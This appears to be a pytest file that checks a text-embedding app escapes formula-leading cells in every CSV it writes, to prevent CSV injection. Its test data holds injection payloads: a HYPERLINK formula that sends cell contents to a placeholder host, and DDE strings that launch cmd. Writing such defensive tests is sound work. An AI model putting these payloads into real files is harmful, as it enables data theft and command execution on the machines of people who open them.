"""Issue 26.7: every CSV the app writes escapes formula-leading text cells (OWASP CSV injection).

Each CSV is written through the code path a user reaches (UI callbacks, ``embed``, ``evaluate``)
with texts a spreadsheet would run as formulas; numbers (negative ones too) stay numbers.
"""

from __future__ import annotations

import ast
import csv
import json
from pathlib import Path

import pytest

from gte_ui.core.csvsafe import FORMULA_PREFIXES, escape_cell
from gte_ui.core.settings import Settings
from gte_ui.frontends import cli
from gte_ui.frontends.ui.common import COMPARE
from gte_ui.frontends.ui.tabs import evaluate, matrix, ranking, vector
from gte_ui.service import corpus
from gte_ui.service.service import EmbeddingService

PACKAGE = Path(__file__).resolve().parents[3] / "gte_ui"
OPTIONS = (False, False, False, "truncate")
#: one text per dangerous first character (tab and CR inside a text survive the UI's line split)
FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+9)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
PLAIN = "今天天气很好"


def read_csv(path: str | Path) -> list[list[str]]:
    with open(path, encoding="utf-8-sig", newline="") as f:
        return list(csv.reader(f))


def assert_escaped(cell: str, original: str) -> None:
    assert cell == "'" + original, f"{original!r} was written as {cell!r}"


def assert_number(cell: str) -> float:
    assert not cell.startswith("'"), cell
    return float(cell)


def test_escape_cell_only_touches_formula_text():
    for text in FORMULAS:
        assert escape_cell(text) == "'" + text
    for number in ("-0.12", "-0.120000", "+3", "1e-05", "-1.5E+07", ".5", -0.12, 3, None, True):
        assert escape_cell(number) == number
    for text in (PLAIN, "a=b", "1-2", "", "'=already quoted"):
        assert escape_cell(text) == text
    assert set(FORMULA_PREFIXES) == {"=", "+", "-", "@", "\t", "\r"}


def test_no_csv_writer_outside_the_one_helper():
    """Fails closed: a new CSV writer must go through gte_ui.core.csvsafe."""
    offenders = []
    for path in PACKAGE.rglob("*.py"):
        if path.name == "csvsafe.py":
            continue
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if (isinstance(node, ast.Attribute) and node.attr in ("writer", "DictWriter")
                    and isinstance(node.value, ast.Name) and node.value.id == "csv"):
                offenders.append(f"{path.relative_to(PACKAGE)}:{node.lineno}")
    assert not offenders, f"use gte_ui.core.csvsafe.writer / dict_writer: {offenders}"


def test_ranking_csv(tiny_service):
    *_, path = ranking.on_rank(tiny_service, PLAIN, "\n".join([*FORMULAS[:4], PLAIN]), None, 0, *OPTIONS,
                               progress=None)
    rows = read_csv(path)
    header, body = rows[0], rows[1:]
    text, score = header.index("text"), header.index("score")
    by_text = {row[text]: row for row in body}
    for original in FORMULAS[:4]:
        assert_escaped(next(t for t in by_text if t.endswith(original)), original)
    expected = {r.text: r.score for r in tiny_service.rank(PLAIN, [*FORMULAS[:4], PLAIN]).rows}
    for row in body:
        cell = row[text].removeprefix("'")
        assert assert_number(row[score]) == pytest.approx(expected[cell], abs=1e-6)
    assert by_text[PLAIN][text] == PLAIN


def test_vectors_csv_keeps_negative_numbers(tiny_service):
    _, _, files = vector.on_vectors(tiny_service, "\n".join(FORMULAS[:4]), *OPTIONS, progress=None)
    rows = read_csv(next(f for f in files if f.endswith(".csv")))
    for row, original in zip(rows[1:], FORMULAS[:4]):
        assert_escaped(row[0], original)
        numbers = [assert_number(x) for x in row[1:]]
        assert len(numbers) == tiny_service.dim and min(numbers) < 0  # "-0.0123" is not a formula


def test_similarity_matrix_csv(tiny_service):
    _, _, path = matrix.on_matrix(tiny_service, "\n".join(FORMULAS[:3]), *OPTIONS)
    rows = read_csv(path)
    for original, head, row in zip(FORMULAS[:3], rows[0][1:], rows[1:]):
        assert_escaped(head, original)
        assert_escaped(row[0], original)
        assert [assert_number(x) for x in row[1:]]


@pytest.fixture(scope="module")
def two_named(tiny_model_dir):
    """The tiny model twice, the second named like a formula (an operator's --models NAME)."""
    service = EmbeddingService.from_settings(
        Settings(model=str(tiny_model_dir), device="cpu", precision="fp32", models=(f"@evil={tiny_model_dir}",)),
        batching=False)
    yield service
    service.close()


def test_compare_csvs(two_named):
    *_, path = ranking.on_rank(two_named, PLAIN, "\n".join(FORMULAS[:2]), None, 0, *OPTIONS, COMPARE,
                               progress=None)
    rows = read_csv(path)
    assert "'@evil score" in rows[0]
    for row, original in zip(rows[1:], FORMULAS[:2]):
        assert_escaped(row[1], original)
        assert all(assert_number(x) is not None for x in row[2:])
    _, _, files, _ = evaluate.on_evaluate(two_named, None, "atec_300.tsv", "", 20, COMPARE, progress=None)
    rows = read_csv(files[0])
    assert [r[0] for r in rows[1:]] == [two_named.name, "'@evil"]
    assert assert_number(rows[2][rows[0].index("spearman")]) is not None


def test_pairs_scored_csv_from_evaluate(tiny_model_dir, tmp_path, capsys):
    data = tmp_path / "pairs.tsv"
    data.write_text("sentence1\tsentence2\tlabel\n" + "".join(
        f"{a}\t{PLAIN}{i}\t{i % 2}\n" for i, a in enumerate(FORMULAS[:4] * 3)), encoding="utf-8")
    out = tmp_path / "out"
    assert cli.main(["evaluate", str(data), "--out", str(out), "--model", str(tiny_model_dir), "--device", "cpu",
                     "--precision", "fp32"]) == 0
    capsys.readouterr()
    rows = read_csv(out / "pairs_scored.csv")
    for row, original in zip(rows[1:], FORMULAS[:4] * 3):
        assert_escaped(row[0], original)
        assert row[1].startswith(PLAIN) and assert_number(row[2]) in (0, 1)
        assert -1.0 <= assert_number(row[3]) <= 1.0


def test_embed_csv(tiny_service, tmp_path):
    src = tmp_path / "in.jsonl"
    src.write_text("\n".join(json.dumps({"text": t}) for t in FORMULAS[:4]), encoding="utf-8")
    corpus.embed_file(tiny_service, src, tmp_path / "o.csv", progress=False)
    rows = read_csv(tmp_path / "o.csv")
    for row, original in zip(rows[1:], FORMULAS[:4]):
        assert_escaped(row[0], original)
        assert min(assert_number(x) for x in row[1:]) < 0


def test_retrieval_per_query_csv(tiny_service, tmp_path):
    """The retrieval job (CLI and Evaluate tab) writes each query's text into retrieval_per_query.csv."""
    from gte_ui.evaluation import jobs

    lines = [{"query": q, "pos": [f"{PLAIN}{i}"], "neg": [f"无关的句子{i}", f"另一句{i}"]}
             for i, q in enumerate(FORMULAS[:4])]
    path = tmp_path / "train.jsonl"
    path.write_text("\n".join(json.dumps(r, ensure_ascii=False) for r in lines), encoding="utf-8")
    job = jobs.retrieval_job(tiny_service, path, top_k=5, out=tmp_path / "out")
    rows = read_csv(next(p for p in job.files if p.name == "retrieval_per_query.csv"))
    query = rows[0].index("query")
    assert sorted(r[query] for r in rows[1:]) == sorted("'" + q for q in FORMULAS[:4])
    assert all(0 <= assert_number(r[4]) <= 1 for r in rows[1:])  # the first metric column stays a number
